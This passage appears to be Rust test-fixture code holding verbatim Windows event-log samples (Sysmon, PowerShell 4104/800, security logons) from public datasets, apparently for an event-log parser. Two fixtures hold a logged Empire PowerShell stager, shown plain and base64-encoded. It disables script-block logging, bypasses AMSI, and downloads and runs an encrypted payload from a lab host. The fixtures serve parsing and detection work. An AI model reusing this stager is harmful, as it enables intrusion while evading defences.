e3cd9014-9076-4ada-ac80-9055ed3282c1\n        Pipeline ID = 6\n        Command Name = Start-BitsTransfer\n        Command Type = Cmdlet\n        Script Name = \n        Command Path = \n        Sequence Number = 24\n        User = OFFSEC\\admmig\n        Shell ID = Microsoft.PowerShell\n</Data>\n    <Data Name=\"UserData\"></Data>\n    <Data Name=\"Payload\">CommandInvocation(Start-BitsTransfer): \"Start-BitsTransfer\"\nParameterBinding(Start-BitsTransfer): name=\"Priority\"; value=\"foreground\"\nParameterBinding(Start-BitsTransfer): name=\"Source\"; value=\"https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md\"\nParameterBinding(Start-BitsTransfer): name=\"Destination\"; value=\"C:\\Users\\bits.ps1\"\n</Data>\n  </EventData>\n</Event>";

const BITS_4104: &str = "<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\">\n  <System>\n    <Provider Name=\"Microsoft-Windows-PowerShell\" Guid=\"{a0c1853b-5c40-4b15-8766-3cf1c58f985a}\"/>\n    <EventID>4104</EventID>\n    <Version>1</Version>\n    <Level>5</Level>\n    <Task>102</Task>\n    <Opcode>15</Opcode>\n    <Keywords>0x0</Keywords>\n    <TimeCreated SystemTime=\"2021-10-21T17:38:36.7114620Z\"/>\n    <EventRecordID>1736</EventRecordID>\n    <Correlation ActivityID=\"{a674bae4-bf55-0000-8236-87a655bfd701}\"/>\n    <Execution ProcessID=\"3336\" ThreadID=\"3892\"/>\n    <Channel>Microsoft-Windows-PowerShell/Operational</Channel>\n    <Computer>FS03.offsec.lan</Computer>\n    <Security UserID=\"S-1-5-21-4230534742-2542757381-3142984815-1111\"/>\n  </System>\n  <EventData>\n    <Data Name=\"MessageNumber\">1</Data>\n    <Data Name=\"MessageTotal\">1</Data>\n    <Data Name=\"ScriptBlockText\">Start-BitsTransfer -Priority foreground -Source https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md -Destination C:\\Users\\bits.ps1</Data>\n    <Data Name=\"ScriptBlockId\">76350588-4aa4-4047-9ecb-9b285c4fa71b</Data>\n  </EventData>\n</Event>";

/// wagga40/Zircolite tests/fixtures/xml_events_sample.xml (verbatim): two events,
/// double quotes, a namespace, line breaks, a space-separated SystemTime.
const ZIRCOLITE_XML: &str = r##"<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Security-Auditing" Guid="{54849625-5478-4994-a5ba-3e3b0328c30d}"></Provider>
<EventID Qualifiers="">4672</EventID>
<Version>0</Version>
<Level>0</Level>
<Task>12548</Task>
<Opcode>0</Opcode>
<Keywords>0x80200000000000</Keywords>
<TimeCreated SystemTime="2023-02-06 22:07:30.404066"></TimeCreated>
<EventRecordID>4398962269</EventRecordID>
<Correlation ActivityID="{3013de7a-3a71-0000-93de-1330713ad901}" RelatedActivityID=""></Correlation>
<Execution ProcessID="712" ThreadID="828"></Execution>
<Channel>Security</Channel>
<Computer>HOST.local</Computer>
<Security UserID=""></Security>
</System>
<EventData><Data Name="SubjectUserSid">S-1-5-18</Data>
<Data Name="SubjectUserName">-</Data>
<Data Name="SubjectDomainName">LOCAL</Data>
<Data Name="SubjectLogonId">0x0000000000f33c</Data>
<Data Name="PrivilegeList">SeSecurityPrivilege</Data>
</EventData>
</Event>
<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Security-Auditing" Guid="{54849625-5478-4994-a5ba-3e3b0328c30d}"></Provider>
<EventID Qualifiers="">4624</EventID>
<Version>2</Version>
<Level>0</Level>
<Task>12544</Task>
<Opcode>0</Opcode>
<Keywords>0x80200000000000</Keywords>
<TimeCreated SystemTime="2023-02-06 22:07:30.404188"></TimeCreated>
<EventRecordID>4398962270</EventRecordID>
<Correlation ActivityID="{3013de7a-3a71-0000-93de-1330713ad901}" RelatedActivityID=""></Correlation>
<Execution ProcessID="712" ThreadID="828"></Execution>
<Channel>Security</Channel>
<Computer>HOST.local</Computer>
<Security UserID=""></Security>
</System>
<EventData><Data Name="SubjectUserSid">S-1-0-0</Data>
<Data Name="SubjectUserName">-</Data>
<Data Name="SubjectDomainName">-</Data>
<Data Name="TargetUserSid">S-1-5-18</Data>
<Data Name="TargetUserName">-</Data>
<Data Name="TargetDomainName">LOCAL</Data>
<Data Name="LogonType">3</Data>
<Data Name="LogonProcessName">Kerberos</Data>
<Data Name="AuthenticationPackageName">Kerberos</Data>
<Data Name="IpAddress">::1</Data>
<Data Name="IpPort">39899</Data>
</EventData>
</Event>
"##;

/// elastic/beats x-pack/winlogbeat/module/sysmon/test/testdata/sysmon-12-processcreate.evtx.golden.json: module-processed ECS (verbatim; a pretty-printed array).
const WINLOGBEAT_SYSMON1_MODULE: &str = r##"[
  {
    "@timestamp": "2020-10-27T20:00:14.32Z",
    "event": {
      "category": [
        "process"
      ],
      "code": 1,
      "kind": "event",
      "module": "sysmon",
      "provider": "Microsoft-Windows-Sysmon",
      "type": [
        "start",
        "process_start"
      ]
    },
    "host": {
      "name": "vagrant"
    },
    "log": {
      "level": "information"
    },
    "process": {
      "args": [
        "C:\\Windows\\system32\\notepad.exe"
      ],
      "command_line": "\"C:\\Windows\\system32\\notepad.exe\" ",
      "entity_id": "{9F32B55F-7C4E-5F98-5803-000000000500}",
      "executable": "C:\\Windows\\System32\\notepad.exe",
      "hash": {
        "sha1": "b6d237154f2e528f0b503b58b025862d66b02b73"
      },
      "name": "notepad.exe",
      "parent": {
        "args": [
          "C:\\Windows\\Explorer.EXE"
        ],
        "command_line": "C:\\Windows\\Explorer.EXE",
        "entity_id": "{9F32B55F-6FDF-5F98-7000-000000000500}",
        "executable": "C:\\Windows\\explorer.exe",
        "name": "explorer.exe",
        "pid": 4212
      },
      "pe": {
        "company": "Microsoft Corporation",
        "description": "Notepad",
        "file_version": "10.0.17763.475 (WinBuild.160101.0800)",
        "original_file_name": "NOTEPAD.EXE",
        "product": "Microsoft® Windows® Operating System"
      },
      "pid": 3616,
      "working_directory": "C:\\Users\\vagrant\\"
    },
    "related": {
      "hash": "b6d237154f2e528f0b503b58b025862d66b02b73",
      "user": "vagrant"
    },
    "user": {
      "domain": "VAGRANT",
      "name": "vagrant"
    },
    "winlog": {
      "api": "wineventlog",
      "channel": "Microsoft-Windows-Sysmon/Operational",
      "computer_name": "vagrant",
      "event_data": {
        "Company": "Microsoft Corporation",
        "Description": "Notepad",
        "FileVersion": "10.0.17763.475 (WinBuild.160101.0800)",
        "IntegrityLevel": "Medium",
        "LogonGuid": "{9F32B55F-6FDD-5F98-E7C9-020000000000}",
        "LogonId": "0x2c9e7",
        "Product": "Microsoft® Windows® Operating System",
        "RuleName": "-",
        "TerminalSessionId": "1"
      },
      "event_id": 1,
      "process": {
        "pid": 7144,
        "thread": {
          "id": 6876
        }
      },
      "provider_guid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
      "provider_name": "Microsoft-Windows-Sysmon",
      "record_id": 20,
      "user": {
        "identifier": "S-1-5-18"
      },
      "version": 5
    }
  }
]"##;

/// elastic/beats …/sysmon/test/testdata/collection/sysmon-12-processcreate.evtx.golden.json: raw winlog.event_data (verbatim; a pretty-printed array).
const WINLOGBEAT_SYSMON1_RAW: &str = r##"[
  {
    "@timestamp": "2020-10-27T20:00:14.3242341Z",
    "event": {
      "action": "Process Create (rule: ProcessCreate)",
      "code": "1",
      "kind": "event",
      "provider": "Microsoft-Windows-Sysmon"
    },
    "host": {
      "name": "vagrant"
    },
    "log": {
      "level": "information"
    },
    "message": "Process Create:\nRuleName: -\nUtcTime: 2020-10-27 20:00:14.320\nProcessGuid: {9F32B55F-7C4E-5F98-5803-000000000500}\nProcessId: 0\nImage: C:\\Windows\\System32\\notepad.exe\nFileVersion: 10.0.17763.475 (WinBuild.160101.0800)\nDescription: Notepad\nProduct: Microsoft® Windows® Operating System\nCompany: Microsoft Corporation\nOriginalFileName: NOTEPAD.EXE\nCommandLine: \"C:\\Windows\\system32\\notepad.exe\" \nCurrentDirectory: C:\\Users\\vagrant\\\nUser: VAGRANT\\vagrant\nLogonGuid: {9F32B55F-6FDD-5F98-E7C9-020000000000}\nLogonId: 0x0\nTerminalSessionId: 0\nIntegrityLevel: Medium\nHashes: SHA1=B6D237154F2E528F0B503B58B025862D66B02B73\nParentProcessGuid: {9F32B55F-6FDF-5F98-7000-000000000500}\nParentProcessId: 0\nParentImage: C:\\Windows\\explorer.exe\nParentCommandLine: C:\\Windows\\Explorer.EXE\nParentUser: %23",
    "winlog": {
      "channel": "Microsoft-Windows-Sysmon/Operational",
      "computer_name": "vagrant",
      "event_data": {
        "CommandLine": "\"C:\\Windows\\system32\\notepad.exe\" ",
        "Company": "Microsoft Corporation",
        "CurrentDirectory": "C:\\Users\\vagrant\\",
        "Description": "Notepad",
        "FileVersion": "10.0.17763.475 (WinBuild.160101.0800)",
        "Hashes": "SHA1=B6D237154F2E528F0B503B58B025862D66B02B73",
        "Image": "C:\\Windows\\System32\\notepad.exe",
        "IntegrityLevel": "Medium",
        "LogonGuid": "{9F32B55F-6FDD-5F98-E7C9-020000000000}",
        "LogonId": "0x2c9e7",
        "OriginalFileName": "NOTEPAD.EXE",
        "ParentCommandLine": "C:\\Windows\\Explorer.EXE",
        "ParentImage": "C:\\Windows\\explorer.exe",
        "ParentProcessGuid": "{9F32B55F-6FDF-5F98-7000-000000000500}",
        "ParentProcessId": "4212",
        "ProcessGuid": "{9F32B55F-7C4E-5F98-5803-000000000500}",
        "ProcessId": "3616",
        "Product": "Microsoft® Windows® Operating System",
        "RuleName": "-",
        "TerminalSessionId": "1",
        "User": "VAGRANT\\vagrant",
        "UtcTime": "2020-10-27 20:00:14.320"
      },
      "event_id": "1",
      "opcode": "Info",
      "process": {
        "pid": 7144,
        "thread": {
          "id": 6876
        }
      },
      "provider_guid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
      "provider_name": "Microsoft-Windows-Sysmon",
      "record_id": 20,
      "task": "Process Create (rule: ProcessCreate)",
      "user": {
        "domain": "NT AUTHORITY",
        "identifier": "S-1-5-18",
        "name": "SYSTEM",
        "type": "Well Known Group"
      },
      "version": 5
    }
  }
]"##;

/// elastic/beats …/powershell/test/testdata/4104.evtx.golden.json: module-processed, two blocks (verbatim; a pretty-printed array).
const WINLOGBEAT_4104_MODULE: &str = r##"[
  {
    "@timestamp": "2020-05-14T11:33:51.3892662Z",
    "event": {
      "action": "Execute a Remote Command",
      "category": [
        "process"
      ],
      "code": 4104,
      "kind": "event",
      "module": "powershell",
      "provider": "Microsoft-Windows-PowerShell",
      "type": [
        "info"
      ]
    },
    "host": {
      "name": "vagrant"
    },
    "log": {
      "level": "verbose"
    },
    "powershell": {
      "file": {
        "script_block_id": "50d2dbda-7361-4926-a94d-d9eadfdb43fa",
        "script_block_text": ".\\patata.ps1"
      },
      "sequence": 1,
      "total": 1
    },
    "winlog": {
      "activity_id": "{fb13c9de-29f7-0001-18e0-13fbf729d601}",
      "api": "wineventlog",
      "channel": "Microsoft-Windows-PowerShell/Operational",
      "computer_name": "vagrant",
      "event_id": 4104,
      "opcode": "On create calls",
      "process": {
        "pid": 4844,
        "thread": {
          "id": 4428
        }
      },
      "provider_guid": "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}",
      "provider_name": "Microsoft-Windows-PowerShell",
      "record_id": 3580,
      "task": "Execute a Remote Command",
      "user": {
        "identifier": "S-1-5-21-1350058589-2282154016-2764056528-1000"
      },
      "version": 1
    }
  },
  {
    "@timestamp": "2020-05-14T11:33:51.3938848Z",
    "event": {
      "action": "Execute a Remote Command",
      "category": [
        "process"
      ],
      "code": 4104,
      "kind": "event",
      "module": "powershell",
      "provider": "Microsoft-Windows-PowerShell",
      "type": [
        "info"
      ]
    },
    "file": {
      "directory": "C:\\Users\\vagrant\\Desktop",
      "extension": "ps1",
      "name": "patata.ps1",
      "path": "C:\\Users\\vagrant\\Desktop\\patata.ps1"
    },
    "host": {
      "name": "vagrant"
    },
    "log": {
      "level": "verbose"
    },
    "powershell": {
      "file": {
        "script_block_id": "f5521cbd-656e-4296-b74d-9ffb4eec23b0"
      },
      "sequence": 1,
      "total": 1
    },
    "winlog": {
      "activity_id": "{fb13c9de-29f7-0000-79db-13fbf729d601}",
      "api": "wineventlog",
      "channel": "Microsoft-Windows-PowerShell/Operational",
      "computer_name": "vagrant",
      "event_id": 4104,
      "opcode": "On create calls",
      "process": {
        "pid": 4844,
        "thread": {
          "id": 4428
        }
      },
      "provider_guid": "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}",
      "provider_name": "Microsoft-Windows-PowerShell",
      "record_id": 3582,
      "task": "Execute a Remote Command",
      "user": {
        "identifier": "S-1-5-21-1350058589-2282154016-2764056528-1000"
      },
      "version": 1
    }
  }
]"##;

/// NXLog flat JSON: Sysmon 3 from the Empire PowerShell process.
/// (OTRF/Security-Datasets empire_launcher_vbs, line 1478, verbatim.)
const OTRF_SYSMON3_POWERSHELL: &str = r##"{"EventID":3,"DestinationPort":"80","RecordNumber":251809,"ProviderGuid":"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}","SourceName":"Microsoft-Windows-Sysmon","OpcodeValue":0,"DestinationHostname":"-","ProcessGuid":"{860ba2e3-9f13-5f52-2703-000000000400}","Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","Domain":"NT AUTHORITY","User":"THESHIRE\\pgustavo","Message":"Network connection detected:\r\nRuleName: -\r\nUtcTime: 2020-09-04 20:09:59.621\r\nProcessGuid: {860ba2e3-9f13-5f52-2703-000000000400}\r\nProcessId: 2316\r\nImage: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\r\nUser: THESHIRE\\pgustavo\r\nProtocol: tcp\r\nInitiated: true\r\nSourceIsIpv6: false\r\nSourceIp: 172.18.39.5\r\nSourceHostname: -\r\nSourcePort: 50699\r\nSourcePortName: -\r\nDestinationIsIpv6: false\r\nDestinationIp: 10.10.10.5\r\nDestinationHostname: -\r\nDestinationPort: 80\r\nDestinationPortName: -","SourceIsIpv6":"false","DestinationPortName":"-","ExecutionProcessID":3196,"AccountType":"User","Severity":"INFO","Opcode":"Info","SourcePortName":"-","DestinationIsIpv6":"false","EventType":"INFO","ThreadID":3376,"DestinationIp":"10.10.10.5","AccountName":"SYSTEM","RuleName":"-","Task":3,"SourceIp":"172.18.39.5","SourcePort":"50699","port":53221,"@version":"1","@timestamp":"2020-09-04T20:10:02.673Z","SourceHostname":"-","tags":["mordorDataset"],"Keywords":-9223372036854775808,"Version":5,"SourceModuleName":"eventlog","UserID":"S-1-5-18","EventTime":"2020-09-04 16:10:01","SeverityValue":2,"Category":"Network connection detected (rule: NetworkConnect)","SourceModuleType":"im_msvistalog","ProcessId":"2316","Channel":"Microsoft-Windows-Sysmon/Operational","Protocol":"tcp","Initiated":"true","EventReceivedTime":"2020-09-04 16:10:02","UtcTime":"2020-09-04 20:09:59.621","Hostname":"WORKSTATION5.theshire.local","host":"wec.internal.cloudapp.net"}"##;

/// NXLog flat JSON: 4104 with ScriptBlockText flattened, ExecutionProcessID.
/// (OTRF/Security-Datasets empire_launcher_vbs, line 918, verbatim.)
const OTRF_4104: &str = r##"{"EventID":4104,"RecordNumber":1948,"ProviderGuid":"{A0C1853B-5C40-4B15-8766-3CF1C58F985A}","SourceName":"Microsoft-Windows-PowerShell","OpcodeValue":15,"EventTime":"2020-09-04 16:09:59","UserID":"S-1-5-21-2079883792-3656946353-945924832-1104","ScriptBlockId":"6e4c1b59-2eb8-4934-9e78-32cd88822dbb","SeverityValue":3,"ActivityID":"{282F4843-0B7B-0000-771F-8E8DEB82D601}","Domain":"THESHIRE","Category":"Execute a Remote Command","SourceModuleType":"im_msvistalog","Channel":"Microsoft-Windows-PowerShell/Operational","ExecutionProcessID":2316,"AccountType":"User","Severity":"WARNING","Opcode":"On create calls","MessageTotal":"1","EventType":"WARNING","ThreadID":4132,"AccountName":"pgustavo","ScriptBlockText":"If($PSVERSiOnTaBlE.PSVErSIOn.MajOR -gE 3){$6866=[rEF].ASsEMbLY.GetTYPE('System.Management.Automation.Utils').\"GEtFie`LD\"('cachedGroupPolicySettings','N'+'onPublic,Static');If($6866){$1fe7=$6866.GetVaLUE($nUlL);If($1FE7['ScriptB'+'lockLogging']){$1FE7['ScriptB'+'lockLogging']['EnableScriptB'+'lockLogging']=0;$1Fe7['ScriptB'+'lockLogging']['EnableScriptBlockInvocationLogging']=0}$vAl=[CollEctIOns.GENerIC.DIcTIOnarY[StrIng,SYsTEm.ObJEct]]::new();$Val.Add('EnableScriptB'+'lockLogging',0);$val.Add('EnableScriptBlockInvocationLogging',0);$1FE7['HKEY_LOCAL_MACHINE\\Software\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptB'+'lockLogging']=$Val}ElSE{[SCRiptBlOCk].\"GeTFIE`lD\"('signatures','N'+'onPublic,Static').SETValuE($NULL,(New-OBjEcT CoLlections.GenERIc.HaSHSEt[STRIng]))}$Ref=[ReF].AsseMBlY.GETTypE('System.Management.Automation.Amsi'+'Utils');$REf.GeTFIELd('amsiInitF'+'ailed','NonPublic,Static').SeTVaLUE($nulL,$tRUE);};[SYsTem.NEt.SErviCePoINTMAnaGER]::ExPect100COntinUe=0;$F94E=New-ObJECt SYsTEM.NeT.WebCLienT;$u='Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko';$ser=$([TexT.EnCODiNg]::UNIcODE.GetStriNG([COnvERT]::FRoMBAsE64StriNg('aAB0AHQAcAA6AC8ALwAxADAALgAxADAALgAxADAALgA1AA==')));$t='/news.php';$f94E.HEaderS.ADd('User-Agent',$u);$f94e.PROxY=[SYsteM.Net.WEbREQuEst]::DeFAULtWEBPROXy;$F94E.PrOXY.CReDentIaLS = [SYSTeM.Net.CrEdeNTiAlCAche]::DefAultNEtwORkCreDENtialS;$Script:Proxy = $f94e.Proxy;$K=[SyStem.Text.EnCoding]::ASCII.GetByteS('3+Ymcn)s0r8=#dxZ65;}O%|LlHi~f{zB');$R={$D,$K=$Args;$S=0..255;0..255|%{$J=($J+$S[$_]+$K[$_%$K.COUnt])%256;$S[$_],$S[$J]=$S[$J],$S[$_]};$D|%{$I=($I+1)%256;$H=($H+$S[$I])%256;$S[$I],$S[$H]=$S[$H],$S[$I];$_-bXor$S[($S[$I]+$S[$H])%256]}};$F94E.HeADeRS.Add(\"Cookie\",\"JQOHuDGrNLGeOPyl=E2Hzj61lui7hWMYQe63WUws0zZ8=\");$datA=$f94E.DOWnLoADData($seR+$t);$Iv=$data[0..3];$dAtA=$Data[4..$daTA.lenGTH];-joIN[CHAr[]](&amp; $R $daTA ($IV+$K))|IEX","Task":2,"ERROR_EVT_UNRESOLVED":true,"MessageNumber":"1","EventReceivedTime":"2020-09-04 16:10:00","tags":["mordorDataset"],"port":53221,"@version":"1","@timestamp":"2020-09-04T20:10:00.327Z","Hostname":"WORKSTATION5.theshire.local","host":"wec.internal.cloudapp.net","Keywords":0,"Version":1,"SourceModuleName":"eventlog"}"##;

/// NXLog flat JSON: an 800 event kept only as its message.
/// (OTRF/Security-Datasets empire_launcher_vbs, line 1663, verbatim.)
const OTRF_800: &str = r##"{"EventID":800,"RecordNumber":1385,"SourceName":"PowerShell","EventTime":"2020-09-04 16:10:07","SeverityValue":2,"Category":"Pipeline Execution Details","SourceModuleType":"im_msvistalog","Message":"Pipeline execution details for command line:         $IV=[BitConverter]::GetBytes($(Get-Random));\n. \r\n\r\nContext Information: \r\n\tDetailSequence=1\r\n\tDetailTotal=1\r\n\r\n\tSequenceNumber=63\r\n\r\n\tUserId=THESHIRE\\pgustavo\r\n\tHostName=ConsoleHost\r\n\tHostVersion=5.1.18362.752\r\n\tHostId=39315e7d-5bea-48aa-8ea8-21c983c954a8\r\n\tHostApplication=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -noP -sta -w 1 -enc SQBmACgAJABQAFMAVgBFAFIAUwBpAE8AbgBUAGEAQgBsAEUALgBQAFMAVgBFAHIAUwBJAE8AbgAuAE0AYQBqAE8AUgAgAC0AZwBFACAAMwApAHsAJAA2ADgANgA2AD0AWwByAEUARgBdAC4AQQBTAHMARQBNAGIATABZAC4ARwBlAHQAVABZAFAARQAoACcAUwB5AHMAdABlAG0ALgBNAGEAbgBhAGcAZQBtAGUAbgB0AC4AQQB1AHQAbwBtAGEAdABpAG8AbgAuAFUAdABpAGwAcwAnACkALgAiAEcARQB0AEYAaQBlAGAATABEACIAKAAnAGMAYQBjAGgAZQBkAEcAcgBvAHUAcABQAG8AbABpAGMAeQBTAGUAdAB0AGkAbgBnAHMAJwAsACcATgAnACsAJwBvAG4AUAB1AGIAbABpAGMALABTAHQAYQB0AGkAYwAnACkAOwBJAGYAKAAkADYAOAA2ADYAKQB7ACQAMQBmAGUANwA9ACQANgA4ADYANgAuAEcAZQB0AFYAYQBMAFUARQAoACQAbgBVAGwATAApADsASQBmACgAJAAxAEYARQA3AFsAJwBTAGMAcgBpAHAAdABCACcAKwAnAGwAbwBjAGsATABvAGcAZwBpAG4AZwAnAF0AKQB7ACQAMQBGAEUANwBbACcAUwBjAHIAaQBwAHQAQgAnACsAJwBsAG8AYwBrAEwAbwBnAGcAaQBuAGcAJwBdAFsAJwBFAG4AYQBiAGwAZQBTAGMAcgBpAHAAdABCACcAKwAnAGwAbwBjAGsATABvAGcAZwBpAG4AZwAnAF0APQAwADsAJAAxAEYAZQA3AFsAJwBTAGMAcgBpAHAAdABCACcAKwAnAGwAbwBjAGsATABvAGcAZwBpAG4AZwAnAF0AWwAnAEUAbgBhAGIAbABlAFMAYwByAGkAcAB0AEIAbABvAGMAawBJAG4AdgBvAGMAYQB0AGkAbwBuAEwAbwBnAGcAaQBuAGcAJwBdAD0AMAB9ACQAdgBBAGwAPQBbAEMAbwBsAGwARQBjAHQASQBPAG4AcwAuAEcARQBOAGUAcgBJAEMALgBEAEkAYwBUAEkATwBuAGEAcgBZAFsAUwB0AHIASQBuAGcALABTAFkAcwBUAEUAbQAuAE8AYgBKAEUAYwB0AF0AXQA6ADoAbgBlAHcAKAApADsAJABWAGEAbAAuAEEAZABkACgAJwBFAG4AYQBiAGwAZQBTAGMAcgBpAHAAdABCACcAKwAnAGwAbwBjAGsATABvAGcAZwBpAG4AZwAnACwAMAApADsAJAB2AGEAbAAuAEEAZABkACgAJwBFAG4AYQBiAGwAZQBTAGMAcgBpAHAAdABCAGwAbwBjAGsASQBuAHYAbwBjAGEAdABpAG8AbgBMAG8AZwBnAGkAbgBnACcALAAwACkAOwAkADEARgBFADcAWwAnAEgASwBFAFkAXwBMAE8AQwBBAEwAXwBNAEEAQwBIAEkATgBFAFwAUwBvAGYAdAB3AGEAcgBlAFwAUABvAGwAaQBjAGkAZQBzAFwATQBpAGMAcgBvAHMAbwBmAHQAXABXAGkAbgBkAG8AdwBzAFwAUABvAHcAZQByAFMAaABlAGwAbABcAFMAYwByAGkAcAB0AEIAJwArACcAbABvAGMAawBMAG8AZwBnAGkAbgBnACcAXQA9ACQAVgBhAGwAfQBFAGwAUwBFAHsAWwBTAEMAUgBpAHAAdABCAGwATwBDAGsAXQAuACIARwBlAFQARgBJAEUAYABsAEQAIgAoACcAcwBpAGcAbgBhAHQAdQByAGUAcwAnACwAJwBOACcAKwAnAG8AbgBQAHUAYgBsAGkAYwAsAFMAdABhAHQAaQBjACcAKQAuAFMARQBUAFYAYQBsAHUARQAoACQATgBVAEwATAAsACgATgBlAHcALQBPAEIAagBFAGMAVAAgAEMAbwBMAGwAZQBjAHQAaQBvAG4AcwAuAEcAZQBuAEUAUgBJAGMALgBIAGEAUwBIAFMARQB0AFsAUwBUAFIASQBuAGcAXQApACkAfQAkAFIAZQBmAD0AWwBSAGUARgBdAC4AQQBzAHMAZQBNAEIAbABZAC4ARwBFAFQAVAB5AHAARQAoACcAUwB5AHMAdABlAG0ALgBNAGEAbgBhAGcAZQBtAGUAbgB0AC4AQQB1AHQAbwBtAGEAdABpAG8AbgAuAEEAbQBzAGkAJwArACcAVQB0AGkAbABzACcAKQA7ACQAUgBFAGYALgBHAGUAVABGAEkARQBMAGQAKAAnAGEAbQBzAGkASQBuAGkAdABGACcAKwAnAGEAaQBsAGUAZAAnACwAJwBOAG8AbgBQAHUAYgBsAGkAYwAsAFMAdABhAHQAaQBjACcAKQAuAFMAZQBUAFYAYQBMAFUARQAoACQAbgB1AGwATAAsACQAdABSAFUARQApADsAfQA7AFsAUwBZAHMAVABlAG0ALgBOAEUAdAAuAFMARQByAHYAaQBDAGUAUABvAEkATgBUAE0AQQBuAGEARwBFAFIAXQA6ADoARQB4AFAAZQBjAHQAMQAwADAAQwBPAG4AdABpAG4AVQBlAD0AMAA7ACQARgA5ADQARQA9AE4AZQB3AC0ATwBiAEoARQBDAHQAIABTAFkAcwBUAEUATQAuAE4AZQBUAC4AVwBlAGIAQwBMAGkAZQBuAFQAOwAkAHUAPQAnAE0AbwB6AGkAbABsAGEALwA1AC4AMAAgACgAVwBpAG4AZABvAHcAcwAgAE4AVAAgADYALgAxADsAIABXAE8AVwA2ADQAOwAgAFQAcgBpAGQAZQBuAHQALwA3AC4AMAA7ACAAcgB2ADoAMQAxAC4AMAApACAAbABpAGsAZQAgAEcAZQBjAGsAbwAnADsAJABzAGUAcgA9ACQAKABbAFQAZQB4AFQALgBFAG4AQwBPAEQAaQBOAGcAXQA6ADoAVQBOAEkAYwBPAEQARQAuAEcAZQB0AFMAdAByAGkATgBHACgAWwBDAE8AbgB2AEUAUgBUAF0AOgA6AEYAUgBvAE0AQgBBAHMARQA2ADQAUwB0AHIAaQBOAGcAKAAnAGEAQQBCADAAQQBIAFEAQQBjAEEAQQA2AEEAQwA4AEEATAB3AEEAeABBAEQAQQBBAEwAZwBBAHgAQQBEAEEAQQBMAGcAQQB4AEEARABBAEEATABnAEEAMQBBAEEAPQA9ACcAKQApACkAOwAkAHQAPQAnAC8AbgBlAHcAcwAuAHAAaABwACcAOwAkAGYAOQA0AEUALgBIAEUAYQBkAGUAcgBTAC4AQQBEAGQAKAAnAFUAcwBlAHIALQBBAGcAZQBuAHQAJwAsACQAdQApADsAJABmADkANABlAC4AUABSAE8AeABZAD0AWwBTAFkAcwB0AGUATQAuAE4AZQB0AC4AVwBFAGIAUgBFAFEAdQBFAHMAdABdADoAOgBEAGUARgBBAFUATAB0AFcARQBCAFAAUgBPAFgAeQA7ACQARgA5ADQARQAuAFAAcgBPAFgAWQAuAEMAUgBlAEQAZQBuAHQASQBhAEwAUwAgAD0AIABbAFMAWQBTAFQAZQBNAC4ATgBlAHQALgBDAHIARQBkAGUATgBUAGkAQQBsAEMAQQBjAGgAZQBdADoAOgBEAGUAZgBBAHUAbAB0AE4ARQB0AHcATwBSAGsAQwByAGUARABFAE4AdABpAGEAbABTADsAJABTAGMAcgBpAHAAdAA6AFAAcgBvAHgAeQAgAD0AIAAkAGYAOQA0AGUALgBQAHIAbwB4AHkAOwAkAEsAPQBbAFMAeQBTAHQAZQBtAC4AVABlAHgAdAAuAEUAbgBDAG8AZABpAG4AZwBdADoAOgBBAFMAQwBJAEkALgBHAGUAdABCAHkAdABlAFMAKAAnADMAKwBZAG0AYwBuACkAcwAwAHIAOAA9ACMAZAB4AFoANgA1ADsAfQBPACUAfABMAGwASABpAH4AZgB7AHoAQgAnACkAOwAkAFIAPQB7ACQARAAsACQASwA9ACQAQQByAGcAcwA7ACQAUwA9ADAALgAuADIANQA1ADsAMAAuAC4AMgA1ADUAfAAlAHsAJABKAD0AKAAkAEoAKwAkAFMAWwAkAF8AXQArACQASwBbACQAXwAlACQASwAuAEMATwBVAG4AdABdACkAJQAyADUANgA7ACQAUwBbACQAXwBdACwAJABTAFsAJABKAF0APQAkAFMAWwAkAEoAXQAsACQAUwBbACQAXwBdAH0AOwAkAEQAfAAlAHsAJABJAD0AKAAkAEkAKwAxACkAJQAyADUANgA7ACQASAA9ACgAJABIACsAJABTAFsAJABJAF0AKQAlADIANQA2ADsAJABTAFsAJABJAF0ALAAkAFMAWwAkAEgAXQA9ACQAUwBbACQASABdACwAJABTAFsAJABJAF0AOwAkAF8ALQBiAFgAbwByACQAUwBbACgAJABTAFsAJABJAF0AKwAkAFMAWwAkAEgAXQApACUAMgA1ADYAXQB9AH0AOwAkAEYAOQA0AEUALgBIAGUAQQBEAGUAUgBTAC4AQQBkAGQAKAAiAEMAbwBvAGsAaQBlACIALAAiAEoAUQBPAEgAdQBEAEcAcgBOAEwARwBlAE8AUAB5AGwAPQBFADIASAB6AGoANgAxAGwAdQBpADcAaABXAE0AWQBRAGUANgAzAFcAVQB3AHMAMAB6AFoAOAA9ACIAKQA7ACQAZABhAHQAQQA9ACQAZgA5ADQARQAuAEQATwBXAG4ATABvAEEARABEAGEAdABhACgAJABzAGUAUgArACQAdAApADsAJABJAHYAPQAkAGQAYQB0AGEAWwAwAC4ALgAzAF0AOwAkAGQAQQB0AEEAPQAkAEQAYQB0AGEAWwA0AC4ALgAkAGQAYQBUAEEALgBsAGUAbgBHAFQASABdADsALQBqAG8ASQBOAFsAQwBIAEEAcgBbAF0AXQAoACYAIAAkAFIAIAAkAGQAYQBUAEEAIAAoACQASQBWACsAJABLACkAKQB8AEkARQBYAA==\r\n\tEngineVersion=5.1.18362.752\r\n\tRunspaceId=2f526b39-34e5-4958-8786-a61c85685778\r\n\tPipelineId=1\r\n\tScriptName=\r\n\tCommandLine=        $IV=[BitConverter]::GetBytes($(Get-Random));\n \r\n\r\nDetails: \r\nCommandInvocation(Get-Random): \"Get-Random\"\r\n","Channel":"Windows 